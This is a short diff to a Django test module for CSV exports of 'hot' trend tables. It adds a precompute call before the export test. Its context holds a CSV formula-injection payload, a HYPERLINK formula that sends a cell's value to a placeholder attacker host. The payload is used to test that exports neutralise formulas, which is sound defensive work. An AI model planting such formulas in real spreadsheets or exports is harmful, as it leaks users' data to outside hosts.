@@ -16,6 +16,7 @@ from tests.entities.test_entities_aggregates import FIRST
 from tests.institutions.test_institutions_stats import _seed, lists  # noqa: F401  (fixtures)
 from tests.trends.test_hot import imported  # noqa: F401  (fixture)
 from tests.trends.test_months_api import corpus  # noqa: F401  (fixture)
+from trends.hot import compute_and_store
 
 pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -104,6 +105,8 @@ def test_the_fractions_export_neutralises_a_formula_typed_as_a_term(client):
 
 @pytest.mark.usefixtures("imported")
 def test_the_hot_export_has_no_formula(client):
+    # Stored, as the after-ingest precompute does; otherwise a worker computes it (202).
+    compute_and_store(date(2016, 6, 1), window=2)
     for table in ("hot", "not_hot"):
         params = {"as_of": "2016-06", "window": 2, "format": "csv", "table": table}
         rows = rows_of(client.get("/api/hot", params))
